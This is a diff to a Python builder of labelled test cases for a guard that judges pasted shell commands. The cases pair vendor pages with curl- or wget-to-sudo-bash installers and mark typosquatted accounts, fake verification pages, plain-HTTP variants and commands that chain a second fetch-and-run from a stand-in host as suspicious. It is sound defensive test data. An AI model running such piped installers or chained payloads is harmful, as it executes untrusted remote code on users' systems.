@@ -27,6 +27,19 @@ Principles:
   is used to hide…"), pasted where the guard does not know what runs. Look-alikes: the same
   command with an address or a command after it, a `;` that starts a program, the command
   given real arguments.
+- `site-account-company-word`: a vendor's site named for its brand with a company's word
+  after it (connect, systems) and its forge account with another (software, hq), as
+  widgetcamconnect.example and github's widgetcamsoftware: both name widgetcam. Look-alikes:
+  another brand, the site's community section, a check page's address or tail, plain HTTP, the
+  Run box, an account with a letter more.
+- `site-account-word-form`: a project's docs and its forge account spelling its name in
+  another form of the last word (craftycontrol and crafty-controller, ledgerkeep and
+  ledger-keeper; names of eight letters or more). Look-alikes: a short name, a page not about
+  software, another ending, a forum, a check tail, the Run box.
+- `site-short-domain`: a project's docs and its short domain, the name cut to its first
+  letters and its end (docs.wordops.example and wops.example; a bare host as wget takes it).
+  Look-alikes: fewer than four letters, another end or first letter, a fix shop's word, a page
+  not about software, a forum, plain HTTP, a check tail, the Run box.
 """
 
 from __future__ import annotations
@@ -181,6 +194,107 @@ SUBJECT_LOOKALIKES = [
 ]  # fmt: skip
 
 
+# -- own-page installers: a site and its account or short domain spelling one name ------------
+
+COMPANY_WORD = [
+    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/v3/install.sh")'),
+    ("https://www.lumacamconnect.example/download", "curl -fsSL https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh | sudo bash"),
+    ("https://docs.tidepoolsystems.example/agent/linux", "curl -fsSL https://raw.githubusercontent.com/tidepool-software/deploy/main/agent.sh | sh"),
+    ("https://www.tidepoolsystems.example/downloads/", "wget -qO- https://raw.githubusercontent.com/tidepoolsoftware/deploy/main/agent.sh | sudo bash"),
+    ("https://docs.marlowconnect.example/install", "bash -c \"$(curl -fsSL https://gitlab.com/marlowhq/tools/-/raw/main/install.sh)\""),
+    ("https://www.quenbysystems.example/support/linux-agent", "curl -sL https://raw.githubusercontent.com/quenby-io/agent-scripts/master/setup.sh | sudo bash -s -- --key ABC123"),
+    ("https://docs.orrinconnect.example/", "git clone https://github.com/orrinsoftware/orrin-agent && cd orrin-agent && sudo ./setup.sh"),
+    ("https://www.velmasystems.example/download/", "sudo bash -c \"$(wget -qO- https://raw.githubusercontent.com/velma-labs/install/main/velma.sh)\""),
+    ("https://docs.peakhollowconnect.example/start", "curl -fsSL https://raw.githubusercontent.com/peakhollowsoftware/get/main/install.sh | bash"),
+    ("https://www.brenconnect.example/download.aspx", "curl -s https://raw.githubusercontent.com/brenapp/agent/main/install.sh | sudo bash"),
+]  # fmt: skip
+COMPANY_WORD_LOOKALIKES = [
+    # (page, text, expect)
+    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamxsoftware/agent-install/main/install.sh")', "flagged"),
+    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/quarrysoftware/agent-install/main/install.sh")', "flagged"),
+    ("https://community.lumacamconnect.example/t/agent/42", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "flagged"),
+    ("https://www.lumacamconnect.example/verify-human", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "malicious"),
+    ("https://www.lumacamconnect.example/download.aspx", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")' + CHECK_TAIL, "malicious"),
+    ("https://www.lumacamconnect.example/download.aspx", "curl -s http://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh | sudo bash", "flagged"),
+    ("https://lumacam-connect-support.example/fix", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "flagged"),
+    ("https://docs.tidepoolsystems.example/agent/linux", "curl -fsSL https://raw.githubusercontent.com/tidepool-softwarex/deploy/main/agent.sh | sh", "flagged"),
+    ("https://docs.tidepoolsystems.example/agent/linux", "curl -fsSL https://raw.githubusercontent.com/tidepoolsoftware/deploy/main/agent.sh | sh; curl -fsSL https://umbra-stage.test/x | sh", "flagged"),
+    ("https://www.quillmere-bakery.example/blog/lumacam", 'bash <(curl -s "https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.sh")', "flagged"),
+    ("https://www.lumacamconnect.example/download.aspx", 'powershell -c "iwr https://raw.githubusercontent.com/lumacamsoftware/agent-install/main/install.ps1 | iex"', "malicious"),
+]  # fmt: skip
+
+WORD_FORM = [
+    ("https://docs.craftlanecontrol.example/pages/install/linux/", "git clone https://gitlab.com/craftlane-controller/craftlane-installer-4.0.git && cd craftlane-installer-4.0 && sudo ./install_craftlane.sh"),
+    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh"),
+    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL https://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash"),
+    ("https://www.streamrelay.example/docs/install", "bash <(curl -sL https://raw.githubusercontent.com/streamrelays/scripts/main/install.sh)"),
+    ("https://docs.tracehandle.example/linux", "wget -O setup.sh https://raw.githubusercontent.com/tracehandler/deploy/master/setup.sh && chmod +x setup.sh && sudo ./setup.sh"),
+    ("https://docs.packetshape.example/install", "curl -sSL https://gitlab.com/packetshaper/tools/-/raw/main/install.sh | sh"),
+    ("https://www.boltschedule.example/docs/", "git clone --depth=1 https://github.com/boltscheduler/bootstrap.git && cd bootstrap && sudo ./run.sh"),
+    ("https://docs.harborwatch.example/install/debian", "curl -fsSL https://raw.githubusercontent.com/harbor-watchers/agent/main/install.sh | sudo bash"),
+    ("https://docs.fieldrecord.example/cli", "curl -fsSL https://raw.githubusercontent.com/field-recorder/cli/main/install.sh | sh"),
+    ("https://docs.quietbuild.example/setup", "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/quietbuilders/setup/main/install.sh)\""),
+]  # fmt: skip
+WORD_FORM_LOOKALIKES = [
+    ("https://docs.kite.example/install/", "git clone https://gitlab.com/kiter/tools.git && cd tools && sudo ./install.sh", "flagged"),
+    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keepery/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
+    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keeping/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
+    ("https://www.ledgerkeep.example/recipes/pancakes", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
+    ("https://forum.ledgerkeep.example/t/install/7", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh", "flagged"),
+    ("https://docs.ledgerkeep.example/install/linux/", "git clone https://gitlab.com/ledger-keeper/setup-scripts.git && cd setup-scripts && sudo ./install.sh" + CHECK_TAIL, "malicious"),
+    ("https://docs.mirrorsync.example/captcha-check", "curl -fsSL https://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash", "malicious"),
+    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL https://raw.githubusercontent.com/mirror-syncers-fix/get/main/install.sh | sudo bash", "flagged"),
+    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL https://raw.githubusercontent.com/syncmirrorer/get/main/install.sh | sudo bash", "flagged"),
+    ("https://docs.mirrorsync.example/getting-started", "curl -fsSL http://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash", "flagged"),
+    ("https://www.quillmere-bakery.example/news/mirrorsync", "curl -fsSL https://raw.githubusercontent.com/mirror-syncer/get/main/install.sh | sudo bash", "flagged"),
+]  # fmt: skip
+
+SHORT_DOMAIN = [
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wops.example && sudo bash wo"),
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo https://wops.example && sudo bash wo"),
+    ("https://docs.fleetops.example/install", "curl -fsSL https://fops.example/install.sh | sudo bash"),
+    ("https://learn.nodebench.example/cli/", "curl -fsSL https://nbench.example | sh"),
+    ("https://docs.gridstack.example/setup", "bash <(curl -fsSL https://gstack.example/i)"),
+    ("https://docs.cloudkeeper.example/agent", "curl -sSL https://ckeeper.example/agent.sh -o agent.sh && sudo sh agent.sh"),
+    ("https://www.mailforge.example/docs/install", "wget -qO- https://mforge.example/install | sudo bash"),
+    ("https://docs.shipyardctl.example/", "curl -fsSL https://syardctl.example/get | bash"),
+    ("https://docs.datasieve.example/install/linux", "sh -c \"$(curl -fsSL https://dsieve.example/install.sh)\""),
+    ("https://docs.hostpanel.example/installation/", "wget -O hp.sh https://hpanel.example/latest && sudo bash hp.sh"),
+]  # fmt: skip
+SHORT_DOMAIN_LOOKALIKES = [
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wo.example && sudo bash wo", "flagged"),
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wopx.example && sudo bash wo", "flagged"),
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo xops.example && sudo bash wo", "flagged"),
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo w-ops.example && sudo bash wo", "flagged"),
+    ("https://docs.winfix.example/install/", "curl -fsSL https://wfix.example | sudo bash", "flagged"),
+    ("https://www.wordops.example/blog/holiday-recipes", "wget -qO wo wops.example && sudo bash wo", "flagged"),
+    ("https://forum.wordops.example/t/install/9", "wget -qO wo wops.example && sudo bash wo", "flagged"),
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo http://wops.example && sudo bash wo", "flagged"),
+    ("https://docs.wordops.example/getting-started/installation-guide/", "wget -qO wo wops.example && sudo bash wo" + CHECK_TAIL, "malicious"),
+    ("https://docs.wordops.example/verify-human/", "wget -qO wo wops.example && sudo bash wo", "malicious"),
+    ("https://docs.fleetops.example/install", "curl -fsSL https://fops.example/install.sh | sudo bash; curl -fsSL https://umbra-stage.test/p | bash", "flagged"),
+    ("https://docs.fleetops.example/install", "curl -fsSL https://fops.pages.dev/install.sh | sudo bash", "flagged"),
+]  # fmt: skip
+
+
+def installers(book: Book) -> None:
+    groups = [
+        ("site-account-company-word", COMPANY_WORD, COMPANY_WORD_LOOKALIKES),
+        ("site-account-word-form", WORD_FORM, WORD_FORM_LOOKALIKES),
+        ("site-short-domain", SHORT_DOMAIN, SHORT_DOMAIN_LOOKALIKES),
+    ]
+    for technique, cases, lookalikes in groups:
+        for page, text in cases:
+            book.add(technique, text, "not_flagged", "linux", TERMINAL, page)
+        for page, text, expect in lookalikes:
+            target = RUN if text.startswith("powershell") else TERMINAL
+            book.add(technique + "-lookalike", text, expect, "linux", target, page)
+        # the same installers pasted into the Run box, or with no page at all
+        page, text = cases[0]
+        book.add(technique + "-lookalike", text, "malicious", "linux", RUN, page)
+        book.add(technique + "-lookalike", text, "flagged", "linux", TERMINAL, None)
+
+
 def run_box(book: Book) -> None:
     for i, text in enumerate(OWN_TAB):
         book.add(
@@ -218,6 +332,7 @@ def build() -> list[dict[str, str]]:
     book = Book("b15b")
     run_box(book)
     prose(book)
+    installers(book)
     return book.cases
 
 
